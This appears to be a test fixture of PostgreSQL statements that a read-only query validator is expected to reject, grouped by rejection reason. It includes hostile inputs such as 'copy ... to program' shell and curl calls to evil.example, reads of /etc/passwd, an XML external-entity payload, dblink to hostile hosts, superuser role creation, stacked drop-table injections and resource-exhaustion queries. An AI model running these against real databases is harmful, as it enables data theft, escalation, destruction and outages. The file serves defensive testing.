-- expect: empty

;

-- nothing

/* nothing */ ;;

-- expect: syntax

select * from

selec 1

select 1 from from

select 'unclosed

select "unclosed

select 1 /* unclosed

select $$unclosed

drop

select * from orders where

select 999999!

select U&'\00G0'

select (1

select 1)

select 1) q; drop table orders; select * from (select 1

select * from orders limit 5, 10

with m as (merge into orders o using customers c on true when matched then delete returning 1) select 1

select :x

select ?

select 1\; drop table orders

-- expect: many_statements

select 1; select 2

select 1; drop table orders

select 1;delete from orders

select 1; -- x
drop table orders;

select 1 /* ; */ ; update orders set total = 0

select ';'; commit; drop table orders

begin; select 1; commit

begin; drop table orders

select 1;; select

commit; drop table orders; begin

select $$;$$; select pg_sleep(5)

select E'\''; drop table orders; --'

select '\'; drop table orders; --'

select 1; set default_transaction_read_only = off

rollback; delete from orders

select 1 ;/* */; drop table orders

begin; select 1

select 1; commit

-- expect: data_change

insert into orders values (1)

insert into orders select * from orders

insert into orders default values

insert into orders values (1) on conflict do nothing

insert into orders values (1) returning *

INSERT INTO public.orders (id) VALUES (1);

update orders set total = 0

update orders set total = 0 where id = 1 returning *

delete from orders

DeLeTe FrOm orders where true

delete from orders using customers where true returning *

/* select */ delete from orders

with x as (select 1) delete from orders

with x as (select 1) update orders set total = 1

with x as (select 1) insert into orders select * from x

merge into orders o using customers c on o.id = c.id when matched then delete

with d as (delete from orders returning *) select * from d

with d as (insert into orders values (1) returning id) select * from d

with u as (update orders set total = 0 returning *) select count(*) from u

with recursive d as (delete from orders returning *) select * from d

select * from (with d as (delete from orders returning *) select * from d) q

select (with d as (delete from orders returning 1) select 1)

with a as (with b as (delete from orders returning *) select * from b) select * from a

with a as materialized (delete from orders returning *) select 1

select exists (with d as (update orders set total = 1 returning *) select 1 from d)

with a as (select 1), b as (insert into orders select 1 returning 1) select * from a

select 1 union all (with d as (delete from orders returning 1) select 1)

with x as (delete from orders returning *), y as (select 1) select * from y

with x as (select 1), y as (with z as (insert into orders(id) values (9) returning id) select * from z) select * from y

select * from orders where id in (with d as (update orders set id=1 returning id) select id from d)

select array(with d as (delete from orders returning id) select id from d)

select * from orders o join lateral (with d as (delete from orders returning id) select id from d) x on true

select sum(x) over (order by (with d as (delete from orders returning id) select id from d limit 1)) from (select 1 x) q

values ((with d as (delete from orders returning id) select id from d limit 1))

select * from (values (1)) v(x) where exists (with d as (merge into orders o using customers c on true when matched then do nothing) select 1)

-- expect: not_select

drop table orders

drop table if exists orders cascade

drop database shop

drop schema public cascade

drop function f()

drop role admin

drop owned by admin

truncate orders

truncate table orders, customers restart identity cascade

create table x (a int)

create table x as select * from orders

create temp table x as select 1

create temporary view v as select 1

create view v as select * from orders

create or replace view v as select 1

create materialized view v as select 1

create index on orders (id)

create function f() returns int language sql as 'select 1'

create or replace function f() returns void language plpgsql as $$ begin delete from orders; end $$

create procedure p() language sql as 'delete from orders'

create trigger t before insert on orders execute function f()

create rule r as on select to orders do instead nothing

create schema s

create database d

create role evil superuser

create user evil password 'x'

create extension dblink

create server s foreign data wrapper postgres_fdw

create foreign table f (a int) server s

create user mapping for public server s

create type t as (a int)

create domain d as int

create sequence s

create aggregate a (int) (sfunc = int4pl, stype = int)

create operator === (leftarg = int, rightarg = int, procedure = int4eq)

create cast (int as text) with function f(int)

create collation c from "C"

create policy p on orders

create publication p for all tables

create subscription s connection 'host=x' publication p

create event trigger e on ddl_command_start execute function f()

create statistics s on id, total from orders

create tablespace t location '/tmp'

create language plperl

create text search configuration c (copy = english)

alter table orders add column x int

alter table orders owner to evil

alter table orders disable row level security

alter role postgres with password 'x'

alter user postgres superuser

alter system set work_mem = '1GB'

alter database shop set work_mem = '1GB'

alter default privileges grant all on tables to public

alter function f() security definer

alter sequence s restart

alter schema public rename to x

grant all on orders to public

grant admin to evil

revoke all on orders from reader

comment on table orders is 'x'

security label on table orders is 'x'

copy orders to stdout

copy orders to '/tmp/x'

copy orders from '/etc/passwd'

copy orders from program 'id'

copy (select * from orders) to '/tmp/x'

copy (select 1) to program 'curl evil.example'

copy (delete from orders returning *) to stdout

do $$ begin delete from orders; end $$

do language plpgsql 'begin perform pg_sleep(10); end'

call p()

call public.p(1, 2)

set work_mem = '2GB'

set session authorization postgres

set role postgres

set local statement_timeout = 0

set transaction read write

set session characteristics as transaction read write

set search_path = evil

set constraints all deferred

set time zone 'UTC'

set names 'utf8'

reset all

reset role

reset session authorization

reset statement_timeout

show all

show data_directory

show server_version

explain select 1

explain analyze select * from orders

explain (analyze, buffers) delete from orders

explain (format json) select 1

explain verbose select * from orders

prepare p as select 1

prepare p (int) as delete from orders where id = $1

execute p

execute p (1)

deallocate all

declare c cursor for select * from orders

declare c cursor with hold for select * from orders

fetch all from c

fetch 10 c

move forward 5 in c

close c

close all

listen x

unlisten *

notify x

notify x, 'payload'

lock table orders

lock orders in access exclusive mode

vacuum

vacuum full orders

vacuum analyze

analyze

analyze orders

cluster

cluster orders using i

reindex table orders

reindex database shop

checkpoint

load 'evil'

discard all

discard plans

begin

begin read write

start transaction

commit

commit and chain

rollback

abort

end

savepoint s

release savepoint s

rollback to savepoint s

prepare transaction 'x'

commit prepared 'x'

rollback prepared 'x'

refresh materialized view v

refresh materialized view concurrently v

import foreign schema s from server x into public

reassign owned by a to b

do $$begin execute 'drop table orders'; end$$

explain (analyze) select 1

explain analyze delete from orders

copy (select 1) to stdout

copy orders to program 'sh'

show search_path

declare c cursor for select 1

fetch c

prepare x as select 1

execute x

listen a

notify a

call f()

lock orders

create table x as select 1

create view v as select 1

alter table orders add x int

grant select on orders to public

load 'x'

import foreign schema a from server b into c

-- expect: into

select * into x from orders

select 1 into temp x

select id into unlogged x from orders

select * into table x from orders

with a as (select 1) select * into x from a

select 1 into x union select 2

select 1 union select 2 into x

select 1 into temporary table x from orders

with a as (select 1 into b) select 1

select * from (select 1 into b) q

-- expect: locking

select * from orders for update

select * from orders for no key update

select * from orders for share

select * from orders for key share

select * from orders for update nowait

select * from orders for update of orders skip locked

select * from (select * from orders for update) q

with a as (select * from orders for share) select * from a

select (select id from orders limit 1 for update)

select * from customers where id in (select customer_id from orders for update)

(select id from orders for update)

select * from orders for share for update

select * from orders for update of orders

select * from (select 1 from orders for share) q

select * from orders where exists (select 1 from customers for key share)

with a as materialized (select * from orders for no key update skip locked) select 1

select * from (table orders for update) q

table orders for update

values (1) for update

(select 1 for update) union select 2

select (select id from orders limit 1 for update skip locked)

select 1 limit (select count(*) from orders for update)

-- expect: parameter

select $1

select * from orders where id = $1

select * from orders limit $1

select $1::regclass

select * from orders where id = $2::int

-- expect: catalog

select * from pg_class

select * from pg_catalog.pg_class

select * from PG_CATALOG.PG_CLASS

select * from "pg_class"

select * from "pg_catalog"."pg_tables"

select * from U&"\0070g_class"

select * from U&"pg!005fshadow" uescape '!'

select * from pg_user

select * from pg_shadow

select * from pg_authid

select rolname, rolpassword from pg_authid

select * from pg_roles

select * from pg_settings

select * from pg_stat_activity

select query from pg_stat_activity where pid <> 1

select * from pg_stat_statements

select * from pg_stat_ssl

select * from pg_database

select * from pg_tables

select * from pg_views

select * from pg_proc

select * from pg_namespace

select * from pg_attribute

select * from pg_statistic

select * from pg_stats

select * from pg_locks

select * from pg_file_settings

select * from pg_hba_file_rules

select * from pg_largeobject

select * from pg_user_mappings

select * from pg_foreign_server

select * from pg_extension

select * from pg_available_extensions

select * from pg_config

select * from pg_cursors

select * from pg_prepared_statements

select * from pg_timezone_names

select * from pg_toast.pg_toast_1262

select * from pg_temp.x

select * from pg_temp_3.x

select * from information_schema.tables

select * from information_schema.columns

select * from INFORMATION_SCHEMA.TABLES

select * from "information_schema"."tables"

select table_name from information_schema.tables union select name from customers

table pg_class

table pg_catalog.pg_authid

select * from orders, pg_class

select * from orders join pg_user on true

select * from only pg_class

select * from pg_class tablesample system (1)

select (select count(*) from pg_class)

select * from orders where exists (select 1 from pg_authid)

with x as (select * from pg_authid) select * from x

with x as (select * from pg_authid), pg_authid as (select 1) select * from x

with pg_user as (select * from pg_user) select * from pg_user

with a as (with pg_user as (select 1 as x) select * from pg_user) select * from a, pg_user

with pg_class as (select 1) select * from pg_catalog.pg_class

select * from (with pg_class as (select 1) select 1) q, pg_class

select 1 union select oid from pg_class

select * from lateral (select * from pg_database) x

select array(select relname from pg_class)

select id from orders order by (select count(*) from pg_class)

select count(*) filter (where exists (select 1 from pg_user)) from orders

select sum(total) over (partition by (select 1 from pg_class limit 1)) from orders

select id from orders limit (select count(*) from pg_class)

select case when (select usesuper from pg_user limit 1) then 1 end

values ((select rolpassword from pg_authid limit 1))

select * from (values ((select 1 from pg_class limit 1))) v

select * from generate_series(1, (select count(*)::int from pg_class))

select * from orders join customers on (select true from pg_shadow limit 1)

select id from orders group by id, (select 1 from pg_class limit 1)

select id from orders group by id having (select true from pg_class limit 1)

select * from pg_temp.orders

select * from pg_temp_1.x

select * from pg_toast.x

select * from pg_toast_temp_1.x

select * from "pg_catalog".pg_class

select * from "pg_catalog"."pg_class" as orders

select * from U&"\0070\0067_class"

select * from U&"pg_cl!0061ss" uescape '!'

select * from pg_catalog . pg_class

select * from pg_catalog./**/pg_class

select * from information_schema . tables

select * from "information_schema".sql_features

table information_schema.tables

select (select relname from pg_class limit 1)

select * from lateral (select * from pg_proc) x

select 1 where 1 in (select oid::int from pg_authid)

select pg_class from pg_class

select pg_class.* from orders, pg_class

with recursive pg_authid as (select 1 union select 2 from pg_catalog.pg_authid) select * from pg_authid

with a as (select * from pg_shadow) select 1

with a as (select 1), b as (select * from pg_user) select * from a

select * from orders tablesample system ((select 1 from pg_class limit 1))

select case when (select true from pg_user limit 1) then 1 end

select coalesce((select 1 from pg_roles limit 1), 2)

select * from json_each((select row_to_json(pg_authid) from pg_authid limit 1))

select nullif(1, (select 1 from pg_database limit 1))

select array[(select 1 from pg_stat_activity limit 1)]

select row((select 1 from pg_settings limit 1))

select (array[1])[(select 1 from pg_class limit 1)]

select count(*) filter (where (select true from pg_class limit 1)) from orders

select percentile_cont((select 0.5 from pg_class limit 1)) within group (order by total) from orders

select sum(1) over (rows between (select 1 from pg_class limit 1) preceding and current row) from orders

select * from orders limit (select 1 from pg_class limit 1)

select * from orders fetch first (select 1 from pg_class limit 1) rows only

select * from orders o join customers c on c.id = (select 1 from pg_class limit 1)

select greatest(1, (select 1 from pg_class limit 1))

select 1 between 0 and (select 1 from pg_class limit 1)

select * from orders group by cube((select 1 from pg_class limit 1))

select distinct on ((select 1 from pg_class limit 1)) 1

select make_interval(days => (select 1 from pg_class limit 1))

select * from unnest((select array_agg(relname) from pg_class))

-- expect: column

select ctid from orders

select ctid, * from orders

select o.ctid from orders o

select orders.xmin from orders

select xmax from orders

select tableoid from orders

select cmin, cmax from orders

select * from orders where ctid = '(0,1)'

select id from orders order by ctid

select id from orders o order by o.xmin

select o.tableoid from orders o join customers c on c.id = o.customer_id

select (select xmin from orders limit 1)

select min(id) as xmin, (select xmin) from orders

select "ctid" from orders

select ctid as ctid from orders order by ctid

select j.ctid from (orders o join customers c on c.id = o.customer_id) j

select x.xmin from (select 1 as a) y, orders x

select ctid, xmin from orders

select o.xmax from orders o

select (o).xmin from orders o

select tableoid from only orders

select count(distinct xmin) from orders

select row_number() over (order by ctid) from orders

select max(ctid) from orders

select * from orders where tableoid = 5

select * from orders group by xmin, id

select orders.ctid from orders join customers using (id)

select x.ctid from orders as x(a, b)

select public.orders.ctid from orders

select postgres.public.orders.xmin from orders

select ctid from orders tablesample system (1)

with a as (select ctid from orders) select 1

select ctid from (select * from orders) q, orders

select (orders).ctid from orders

select (o).tableoid from orders o, customers c

select * from orders o, lateral (select (o).xmax) x

-- expect: type

with recursive t(n,s) as (select 1, path '[(0,0),(1,1)]' union all select n+1, s+s from t where n<40) select count(s) from t

select 'pg_class'::regclass

select 'pg_authid'::regclass::oid

select tableoid_::regclass from (select 1 as tableoid_) q

select cast('pg_authid' as regclass)

select regclass 'pg_authid'

select 'now'::regproc

select 'pg_sleep'::regproc

select 'pg_sleep(double precision)'::regprocedure

select '='::regoper

select '+(int,int)'::regoperator

select 'postgres'::regrole

select 'public'::regnamespace

select 'int'::regtype

select 'english'::regconfig

select 'simple'::regdictionary

select '"C"'::regcollation

select 1259::regclass

select array[1259]::regclass[]

select 1::oid

select '1'::oid::text

select cast(1259 as oid)

select 'pg_class'::pg_catalog.regclass

select '{pg_class}'::regclass[]

select '(0,1)'::tid

select '1'::xid

select '1'::xid8

select '1'::cid

select '<a/>'::xml

select xml '<a/>'

select null::orders

select null::public.orders

select '(1)'::orders

select 'x'::myschema.mytype

select 'x'::mytype

select 'x'::information_schema.sql_identifier

select '0/0'::pg_lsn

select 'x'::pg_node_tree

select 'x'::pg_catalog.pg_snapshot

select null::record

select 'x'::cstring

select 'x'::"any"

select 'x'::aclitem

select 'x'::refcursor

select null::trigger

select * from json_to_recordset('[]') as x(a regclass)

select * from json_to_record('{}') as x(a public.mytype)

select orders.id::orders%type from orders

select cast('x' as public.mytype)

select 'x'::"char"[]::regtype[]

select ('pg_class'::text)::regclass

select 'pg_class'::regclass::text::regclass

select 5::oid

select '5'::oidvector

select '1 2'::int2vector

select null::void

select null::internal

select null::anyelement

select array[]::regclass[]

select * from json_to_recordset('[{"a":"pg_authid"}]') as x(a regclass)

select * from jsonb_populate_record(null::orders, '{}')

select * from jsonb_populate_record(null::pg_authid, '{}')

select * from json_populate_recordset(null::public.orders, '[]')

select * from jsonb_to_record('{"a":"1"}') as x(a oid)

select * from rows from (jsonb_to_record('{}') as (a regrole)) r

-- expect: operator

select 1 operator(myschema.+) 2

select 1 operator(public.=) 1

select 1 operator(pg_temp.=) 1

select 1 ==> 2

select 1 === 1

select @#@ 5

select 1 where 1 operator(evil.=) any (array[1])

select 1 operator(evil.=) any (select 1)

select id from orders order by id using operator(evil.<)

select id from orders order by id using @@@>

select 1 operator(pg_catalog.===) 2

select 1 operator(postgres.pg_catalog.+) 2

select 1 operator(public.+) 2

select operator(evil.-) 1

select 1 operator(pg_temp.+) 2

select 'a' operator(public.||) 'b'

select 1 = any (select 1) and 1 operator(public.=) all (select 2)

select * from orders order by id using operator(public.<)

select 1 %% 2

select 1 @@@@ 2

select 1 <#> 2

select 'a' % 'b', 1 <%> 2

-- expect: function

select pg_sleep(10)

select PG_SLEEP(10)

select "pg_sleep"(10)

select "PG_SLEEP"(10)

select U&"\0070g_sleep"(1)

select U&"pg!005fsleep" uescape '!' (1)

select pg_catalog.pg_sleep(10)

select pg_catalog . pg_sleep ( 10 )

select "pg_catalog"."pg_sleep"(10)

select pg_sleep /* x */ (1)

select pg_sleep--
(1)

select pg_sleep_for('5 minutes')

select pg_sleep_until('tomorrow')

select * from pg_sleep(10)

select * from orders where pg_sleep(1) is null

select id from orders order by pg_sleep(1)

select case when true then pg_sleep(10) end

select coalesce(pg_sleep(1)::text, '')

with x as (select pg_sleep(10)) select * from x

select count(*) filter (where pg_sleep(1) is null) from orders

select sum(1) over (order by pg_sleep(1)) from orders

select 1 limit length(pg_sleep(1)::text)

select (select pg_sleep(5))

select array[pg_sleep(1)]

select * from orders join customers on pg_sleep(1) is null

select lateral_.x from orders, lateral (select pg_sleep(1) as x) lateral_

values (pg_sleep(1))

select set_config('statement_timeout', '0', false)

select set_config('default_transaction_read_only', 'off', false)

select pg_catalog.set_config('role', 'postgres', true)

select current_setting('data_directory')

select current_setting('is_superuser', true)

select pg_read_file('/etc/passwd')

select pg_read_binary_file('/etc/passwd')

select pg_read_file('postgresql.conf', 0, 1000)

select pg_ls_dir('/')

select pg_ls_logdir()

select pg_ls_waldir()

select pg_stat_file('/etc/passwd')

select pg_file_write('x', 'y', false)

select pg_current_logfile()

select lo_import('/etc/passwd')

select lo_export(1, '/tmp/x')

select lo_create(0)

select lo_creat(-1)

select lo_from_bytea(0, 'x')

select lo_get(1)

select lo_put(1, 0, 'x')

select lo_unlink(1)

select lo_open(1, 131072)

select loread(0, 100)

select lowrite(0, 'x')

select dblink('host=evil', 'select 1')

select * from dblink('host=evil', 'select 1') as t(a int)

select dblink_connect('host=evil')

select dblink_exec('drop table orders')

select pg_advisory_lock(1)

select pg_try_advisory_lock(1)

select pg_advisory_xact_lock(1)

select pg_advisory_unlock_all()

select pg_notify('x', 'y')

select pg_terminate_backend(1)

select pg_cancel_backend(1)

select pg_reload_conf()

select pg_rotate_logfile()

select pg_switch_wal()

select pg_create_restore_point('x')

select pg_promote()

select pg_export_snapshot()

select pg_logical_emit_message(true, 'a', 'b')

select pg_create_logical_replication_slot('a', 'b')

select pg_backend_pid()

select pg_stat_get_activity(null)

select pg_stat_reset()

select pg_stat_clear_snapshot()

select pg_relation_size('orders')

select pg_total_relation_size('orders')

select pg_database_size('postgres')

select pg_size_pretty(100::bigint)

select pg_get_viewdef('v')

select pg_get_functiondef(1)

select pg_get_userbyid(10)

select pg_has_role('postgres', 'usage')

select pg_typeof(1)

select pg_column_size(1)

select pg_table_is_visible(1)

select pg_get_keywords()

select * from pg_show_all_settings()

select * from pg_get_catalog_foreign_keys()

select pg_my_temp_schema()

select pg_conf_load_time()

select pg_postmaster_start_time()

select pg_is_in_recovery()

select pg_current_wal_lsn()

select pg_current_xact_id()

select pg_client_encoding()

select has_table_privilege('orders', 'select')

select has_schema_privilege('public', 'create')

select has_database_privilege('x', 'connect')

select query_to_xml('select * from pg_authid', true, true, '')

select table_to_xml('pg_authid', true, true, '')

select table_to_xmlschema('orders', true, true, '')

select cursor_to_xml('c', 1, true, true, '')

select schema_to_xml('public', true, true, '')

select database_to_xml(true, true, '')

select query_to_xml_and_xmlschema('delete from orders', true, true, '')

select xmlagg(x) from orders

select xpath('/a', 'b')

select xpath_exists('/a', 'b')

select xml_is_well_formed('<a/>')

select xmlcomment('x')

select txid_current()

select txid_current_snapshot()

select txid_status(1)

select nextval('s')

select currval('s')

select lastval()

select setval('s', 1)

select version()

select current_database()

select current_query()

select current_schemas(true)

select getpgusername()

select inet_server_addr()

select inet_server_port()

select inet_client_addr()

select inet_client_port()

select current_user

select session_user

select user

select current_role

select system_user

select current_catalog

select current_schema

select current_schema()

select CURRENT_USER

select * from current_user

select name from customers where name = session_user

select coalesce(current_user, 'x')

select setseed(0.5)

select to_regclass('pg_authid')

select to_regproc('pg_sleep')

select to_regtype('int')

select to_regrole('postgres')

select to_regnamespace('public')

select regclass('pg_authid')

select oid('1')

select obj_description(1, 'pg_class')

select col_description(1, 1)

select shobj_description(1, 'pg_database')

select format_type(23, null)

select ts_stat('select vector from documents')

select * from ts_stat('delete from documents')

select ts_rewrite('a'::tsquery, 'select t, s from aliases')

select ts_debug('english', 'x')

select * from ts_token_type('default')

select ts_lexize('english_stem', 'x')

select get_current_ts_config()

select row_security_active('orders')

select amvalidate(1)

select brin_summarize_new_values('i')

select gin_clean_pending_list('i')

select binary_upgrade_set_next_pg_type_oid(1)

select in_range(1, 2, 3, true, true)

select satisfies_hash_partition(1, 2, 0, 1)

select makeaclitem(1, 1, 'SELECT', false)

select acldefault('r', 10)

select aclexplode(null)

select querytree('x')

select getdatabaseencoding()

select int4pl(1, 2)

select texteq('a', 'b')

select textin('x')

select array_in('{1}', 23, -1)

select int4in('1')

select byteaout('x')

select record_out(o) from orders o

select my_function(1)

select public.my_function(1)

select public.lower('x')

select evil.count(*) from orders

select myschema.sum(total) from orders

select pg_temp.f()

select information_schema._pg_expandarray(array[1])

select db.public.f(1)

select delete_all_orders()

select * from user_function()

select * from rows from (generate_series(1, 2), my_function(1))

select my_agg(total) over (order by id) from orders

select my_agg(total) within group (order by total) from orders

select crosstab('select 1')

select * from crosstab('select 1, 2, 3') as t(a int, b int)

select connectby('x', 'a', 'b', 'c', 0)

select query('delete from orders')

select plpython('x')

select http_get('http://evil.example')

select postgres_fdw_get_connections()

select (orders.total).pg_sleep from orders

select (total).pg_sleep from orders

select (10::float8).pg_sleep

select (1).my_function

select ('pg_authid'::text).regclass

select ('work_mem').current_setting

select (now()).my_function

select (name || 'x').lo_import from customers

select o.pg_column_size from orders o

select public.o.pg_typeof from orders o

select g.pg_sleep from random() g

select (o).pg_typeof from orders o

select (name).current_setting from customers

select name.nextval from (select 's'::text) name

select c.to_regclass from unnest(array['pg_authid']) c

select (select name from customers limit 1).my_function from customers order by (name).dblink

select (x).to_regclass from (select 'pg_authid'::text as x) q

select * from orders tablesample my_method (1)

select * from orders tablesample public.system (1)

select collation for (name) from customers

select ifnull(a, 1) from t

select group_concat(name) from customers

select lo_import('/etc/passwd'), 1

select pg_catalog.lo_export(1,'/tmp/x')

select query_to_xml('delete from orders', true, true, '')

select query_to_xml_and_xmlschema('select 1', true, true, '')

select schema_to_xml('pg_catalog', true, true, '')

select xpath('//a', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

select xmlagg(xmlelement(name a, id)) from orders

select xmlexists('//a' passing by ref '<a/>')

select txid_snapshot_xip(txid_current_snapshot())

select pg_snapshot_xmin(pg_current_snapshot())

select pg_xact_status('1'::xid8)

select currtid2('orders', '(0,1)')

select currtid('orders', '(0,1)')

select pg_logical_slot_get_changes('s', null, null)

select pg_create_logical_replication_slot('s', 'test_decoding')

select pg_backup_start('x')

select pg_start_backup('x')

select pg_log_backend_memory_contexts(1)

select pg_replication_origin_create('x')

select pg_import_system_collations('public')

select pg_extension_config_dump('orders','')

select pg_describe_object(1,2,3)

select pg_identify_object(1,2,3)

select pg_options_to_table('{a=b}')

select pg_config()

select * from pg_lock_status()

select * from pg_prepared_statement()

select * from pg_cursor()

select * from pg_timezone_names()

select * from pg_available_extensions()

select * from pg_hba_file_rules()

select pg_ls_tmpdir()

select pg_ls_archive_statusdir()

select pg_blocking_pids(1)

select pg_encoding_to_char(6)

select pg_column_size(orders) from orders

select pg_input_is_valid('x', 'regclass')

select pg_input_error_info('x', 'orders')

select pg_safe_snapshot_blocking_pids(1)

select inet_server_addr(), inet_server_port(), inet_client_port()

select "current_user"()

select has_database_privilege('postgres', 'connect')

select has_any_column_privilege('orders','select')

select has_parameter_privilege('work_mem','set')

select aclexplode('{}')

select makeaclitem(10, 10, 'SELECT', false)

select to_regclass('orders')

select to_regproc('now')

select format_type(23, -1)

select obj_description(1)

select * from ts_stat('delete from orders returning vector')

select ts_rewrite('a'::tsquery, 'select 1')

select ts_parse('default', 'x')

select ts_token_type('default')

select binary_upgrade_create_empty_extension('x','y',true,'z',null,null,null)

select suppress_redundant_updates_trigger()

select RI_FKey_check_ins()

select regclassin('pg_authid')

select int4in('5')

select array_in('{}', 23, -1)

select record_in('()', 2249, -1)

select textcat('a', 'b')

select pg_catalog.int4eq(1, 1)

select array_agg_transfn(null, 1)

select internal_in('x')

select numeric_send(1)

select json_send('{}')

select hashint4(1)

select fmgr_sql_validator(1)

select plpgsql_call_handler()

select pg_stat_statements_reset()

select dblink_send_query('c', 'select 1')

select postgres_fdw_disconnect_all()

select crosstab('select 1,2,3')

select xml2.xpath_table('a','b','c','d','e')

select uuid_generate_v4()

select pgp_sym_decrypt('x','y')

select crypt('x', gen_salt('bf', 31))

select pg_file_unlink('x')

select pg_logdir_ls()

select adminpack.pg_file_write('a','b',true)

select public.f(1)

select myschema.f()

select orders.f() from orders

select postgres.pg_catalog.now()

select regclass('pg_class')

select regtype('int')

select oid('5')

select regrole('postgres')

select xml('<a/>')

select tid('(0,1)')

select cstring('a')

select refcursor('a')

select * from orders tablesample pg_catalog.system (5), pg_am

select * from orders tablesample system_rows (100)

select * from orders tablesample system_time (100000)

select * from orders tablesample public.evil (1)

select * from orders tablesample bernoulli (pg_sleep(1)::text::int)

select * from orders tablesample bernoulli (1) repeatable (pg_sleep(1)::text::int)

select interval '1' * pg_sleep(1)

select t.pg_sleep from generate_series(1,5) t

select (5).pg_sleep

select (q.n).pg_sleep from (select 5.0::float8 as n) q

select t.pg_read_file from unnest(array['/etc/passwd']) t

select t.lo_import from unnest(array['/etc/passwd']) t

select t.regclass from unnest(array['pg_authid']) t

select t.regrole from unnest(array['postgres']) t

select (t).regtype from unnest(array['int']) t

select (max(t)).regrole from unnest(array['postgres']) t

select (array['postgres'])[1].regrole

select (a[1]).regrole from (select array['postgres'] as a) q

select ((select 'postgres'::text)).regrole

select (q.a).xml from (select '<a/>'::text as a) q

select t.current_setting from unnest(array['data_directory']) t

select t.nextval from unnest(array['s']) t

select t.txid_status from generate_series(1,2) t

-- expect: node

select xmlelement(name a, 'b')

select xmlforest(1 as a)

select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

select xmlparse(content '<a/>')

select xmlserialize(content '<a/>' as text)

select xmlpi(name php, 'x')

select xmlroot('<a/>', version '1.0')

select xmlconcat('<a/>', '<b/>')

select '<a/>' is document

select * from xmltable('/a' passing '<a/>' columns b text path 'c')

values (default)

select name collate myschema.mycollation from customers

select xmlparse(document '<a/>')

select xmlelement(name a, xmlattributes(1 as b), 'x')

select xmlforest(id) from orders

select xmlpi(name php, 'echo')

select * from xmltable('/a' passing '<a/>' columns x int path '.')

select 'a' collate "evil"."c"

select 'a' collate public.c

-- expect: relation

select * from other.public.orders

select * from postgres.pg_catalog.pg_class

select * from postgres.public.orders

select * from template1.public.orders

-- expect: newer_syntax

select json_object('a': 1)

select json_object('a' value 1)

select json_array(1, 2)

select json_arrayagg(id) from orders

select json_arrayagg(id order by id) from orders

select json_objectagg(id: name) from products

select '{}' is json

select payload is not json object from events

select json_value(payload, '$.a') from events

select json_value(payload, '$.a' returning int) from events

select json_query(payload, '$.a' with wrapper) from events

select json_exists(payload, '$.a' error on error) from events

select * from json_table('[]', '$[*]' columns (a int path '$.a')) as t

select * from (select 1)

select * from (values (1))

select 1_000_000

select 0x1F

select lag(total) ignore nulls over (order by id) from orders

select now() at local

select happened_at at local from events

select status, count(*) from orders group by all

select json_object('a' value 1 absent on null)

select json_objectagg(name: price) from products

select json_objectagg(name value price absent on null with unique keys) from products

select json_arrayagg(name order by price) from products

select json_arrayagg(name order by price null on null returning jsonb) from products

select json_array(1, 2 null on null)

select json_array(select id from orders)

select json_value(payload, '$.a' returning int default 0 on empty) from events

select * from json_table('[1]'::jsonb, '$[*]' columns (a int path '$'))  t

select * from events, json_table(payload, '$.items[*]' columns (sku int path '$.sku', n for ordinality)) j

select json('{}'), json_scalar(1), json_serialize('{}')

select json('{}' with unique keys)

select payload is json, raw is json object, '1' is not json array from events

select '1' is json with unique keys

select 1_000_000, 0x1F, 0o17, 0b101, 1_0.0_1

select count(*) from (select id from orders) where id > 1

select first_value(total) respect nulls over (order by id) from orders

-- expect: too_costly

select generate_series(generate_series(1, 99999), 99999)

select count(*) from (select generate_series(generate_series(1, 99999), 99999)) x

select distinct generate_series(1, 99999) from generate_series(1, 99999)

select generate_series(1, 99999) from generate_series(1, 99999) order by 1

select repeat('x', 1000000000)

select repeat('x', 1e9::int)

select repeat('x', 10^9)

select repeat('x', (10^9)::int)

select repeat('x', 1000 * 1000 * 1000)

select repeat('x', '1000000000')

select repeat('x', cast('1000000000' as int))

select repeat('x', (select 1000000000))

select repeat('x', (values (1000000000)))

select repeat('x', greatest(1, 1000000000))

select repeat('x', coalesce(null, 1000000000))

select repeat('x', case when true then 1000000000 else 1 end)

select repeat('x', abs(-1000000000))

select repeat('x', -(-1000000000))

select repeat('x', abs(-/* 1 */(1000000000)))

select repeat('x', abs(- -- 1
1000000000))

select repeat('x', 0 - (-1000000000))

select repeat('x', -1 * -1000000000)

select repeat('x', 2147483647)

select repeat('x', 1 << 30)

select repeat('x', power(10, 9)::int)

select repeat('x', factorial(12)::int)

select repeat('x', exp(20)::int)

select repeat('x', extract(epoch from now())::int)

select repeat(repeat('x', 10000), 10000)

select repeat(repeat(repeat('x', 1000), 1000), 1000)

select repeat('x', length(repeat('x', 100000)) * 100)

select repeat('x', n) from (select 1000000000 as n) q

select repeat('x', n) from (values (1000000000)) v(n)

with b as (select 1000000000 as n) select repeat('x', n) from b

select repeat('x', n) from generate_series(100000000, 100000001) n

select repeat('x', id * 1000000) from orders

select pg_catalog.repeat('x', 1000000000)

select length(repeat('x', 1000000000))

select id from orders where repeat('x', 1000000000) is null

select id from orders order by repeat(notes, 1000000)

select lpad('x', 1000000000)

select rpad('x', 1000000000, 'y')

select lpad('x', (10^9)::int, 'y')

select lpad('x', id * 1000000) from orders

select array_fill(1, array[100000000])

select array_fill(1, array[10000, 10000])

select array_fill(0, '{100000000}'::int[])

select array_fill(0, '{10000,10000}')

select array_fill(repeat('x', 10000), array[10000])

select array_length(array_fill(1, array[1000000000]), 1)

select format('%1000000000s', 'x')

select format('%-1000000000s', 'x')

select format('%1$1000000000s', 'x')

select format('%*s', 1000000000, 'x')

select format('%' || 1000000000 || 's', 'x')

select format(notes, id) from orders

select 'x'::char(10000000)

select 1::bit(80000000)

select cast('x' as character(10485760))

select replace(repeat('a', 100000), 'a', repeat('b', 100000))

select replace(replace(replace(replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'bb')

